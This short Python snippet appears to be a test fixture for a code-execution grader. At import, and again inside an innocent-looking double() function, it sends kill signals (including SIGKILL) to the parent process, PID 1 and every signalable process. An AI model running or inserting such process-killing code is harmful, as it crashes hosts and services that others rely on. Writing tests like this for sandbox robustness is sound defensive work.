# ran
# answers: {"1": {"value": 42}, "2": {"value": 14}}
# %%
import contextlib
import os
import signal


def send(target, number):
    with contextlib.suppress(OSError):
        os.kill(target, number)


for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for target in (os.getppid(), 1, -1):
        send(target, number)


def double(x):
    send(1, signal.SIGKILL)
    return 2 * x
